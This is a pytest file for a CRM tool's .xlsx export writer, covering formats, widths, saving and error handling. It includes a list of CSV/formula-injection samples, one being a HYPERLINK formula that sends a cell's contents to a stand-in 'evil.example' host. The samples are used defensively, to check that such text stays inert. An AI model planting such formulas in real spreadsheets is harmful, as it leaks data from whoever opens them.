"""The streamed .xlsx writer, read back the way a user's spreadsheet program and our own
import would read it (openpyxl for formats, python-calamine for values)."""

from __future__ import annotations

import zipfile
from collections.abc import Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from crmdesk.domain.list_columns import CellKind
from crmdesk.io.xlsx_writer import ColumnFormat, WorkbookWriteError, XlsxWriter

COLUMNS = (
    ColumnFormat("客户名称"),
    ColumnFormat("生日", CellKind.DATE),
    ColumnFormat("金额", CellKind.MONEY),
    ColumnFormat("创建时间", CellKind.DATETIME),
    ColumnFormat("订单数", CellKind.INTEGER),
)
INSTANT = datetime(2024, 1, 5, 3, 4, tzinfo=UTC)
ROW = ("张三", date(1990, 5, 17), Decimal("1234.50"), INSTANT, 7)
DANGEROUS = (
    '=HYPERLINK("http://evil.example/?q="&A2,"click")',
    "@SUM(1)",
    "+1+1",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
)


def write(
    path: Path, rows: Sequence[Sequence[object]], columns: Sequence[ColumnFormat] = COLUMNS
) -> Path:
    with XlsxWriter(path) as writer:
        sheet = writer.add_sheet("客户", columns)
        for row in rows:
            sheet.append(row)
    return path


def test_header_is_styled_frozen_and_filtered(tmp_path: Path) -> None:
    sheet = openpyxl.load_workbook(write(tmp_path / "out.xlsx", [ROW, ROW, ROW])).active

    assert sheet.title == "客户"
    assert [cell.value for cell in sheet[1]] == ["客户名称", "生日", "金额", "创建时间", "订单数"]
    assert sheet["A1"].font.b and sheet["A1"].fill.fill_type == "solid"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E4"


def test_values_keep_their_types_and_formats(tmp_path: Path) -> None:
    sheet = openpyxl.load_workbook(write(tmp_path / "out.xlsx", [ROW])).active
    name, birthday, amount, created, orders = sheet[2]

    assert (name.value, name.data_type) == ("张三", "s")
    assert birthday.is_date and birthday.value.date() == date(1990, 5, 17)
    assert birthday.number_format == "yyyy-mm-dd"
    assert amount.value == 1234.5 and amount.number_format == "#,##0.00"
    # An instant shows as the user's wall-clock time: Excel has no time zones.
    assert created.value == INSTANT.astimezone().replace(tzinfo=None)
    assert created.number_format == "yyyy-mm-dd hh:mm"
    assert orders.value == 7 and orders.number_format == "0"


def test_a_value_of_another_type_is_written_as_it_is(tmp_path: Path) -> None:
    sheet = openpyxl.load_workbook(
        write(tmp_path / "out.xlsx", [(None, "不详", "面议", None, None)])
    ).active

    assert [cell.value for cell in sheet[2]][:3] == [None, "不详", "面议"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like_text_stays_text(tmp_path: Path, text: str) -> None:
    # In a text column and in a date column (where a non-date falls back to text).
    path = write(tmp_path / "out.xlsx", [(text, text, None, None, None)])

    # XML reads a carriage return back as a line feed; the point is that it is text.
    expected = text.replace("\r", "\n")
    sheet = openpyxl.load_workbook(path).active
    for cell in sheet[2][:2]:
        assert (cell.value, cell.data_type) == (expected, "s")
        assert cell.quotePrefix  # stays text when a person edits the cell, too
    values = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    assert values[1][:2] == [expected, expected]
    with zipfile.ZipFile(path) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_control_characters_are_dropped_tabs_and_newlines_kept(tmp_path: Path) -> None:
    sheet = openpyxl.load_workbook(
        write(
            tmp_path / "out.xlsx",
            [("a\x01b\x1fc", None, None, None, None), ("x\ty\nz", None, None, None, None)],
        )
    ).active

    assert sheet["A2"].value == "abc"
    assert sheet["A3"].value == "x\ty\nz"


def test_widths_fit_the_text_and_count_cjk_double(tmp_path: Path) -> None:
    columns = (ColumnFormat("名称"), ColumnFormat("Name"), ColumnFormat("Notes"))
    rows = [("上海明辉贸易有限公司", "Shanghai Minghui", "x" * 500)]
    sheet = openpyxl.load_workbook(write(tmp_path / "out.xlsx", rows, columns)).active
    widths = [sheet.column_dimensions[letter].width for letter in "ABC"]

    assert widths[0] >= 20  # ten CJK characters take twenty columns
    assert 16 <= widths[1] < widths[0]
    assert widths[2] == 50  # capped


def test_rows_beyond_the_sizing_sample_are_all_written_in_order(tmp_path: Path) -> None:
    rows = [(f"客户{n}", None, Decimal(n), None, n) for n in range(250)]
    path = write(tmp_path / "out.xlsx", rows)

    values = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    assert [row[0] for row in values[1:]] == [f"客户{n}" for n in range(250)]
    assert openpyxl.load_workbook(path).active.auto_filter.ref == "A1:E251"


def test_an_empty_sheet_has_its_header(tmp_path: Path) -> None:
    sheet = openpyxl.load_workbook(write(tmp_path / "out.xlsx", [])).active

    assert sheet["A1"].value == "客户名称"
    assert sheet.auto_filter.ref == "A1:E1"


def test_a_failure_leaves_no_file_and_keeps_the_old_one(tmp_path: Path) -> None:
    target = tmp_path / "out.xlsx"
    target.write_bytes(b"the previous export")

    with pytest.raises(RuntimeError), XlsxWriter(target) as writer:
        sheet = writer.add_sheet("客户", COLUMNS)
        for _ in range(300):
            sheet.append(ROW)
        raise RuntimeError("stopped")

    assert target.read_bytes() == b"the previous export"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["out.xlsx"]


def test_an_unwritable_folder_is_a_plain_error(tmp_path: Path) -> None:
    target = tmp_path / "missing" / "out.xlsx"

    with pytest.raises(WorkbookWriteError, match="Could not save"):
        write(target, [ROW])
    assert not target.parent.exists()
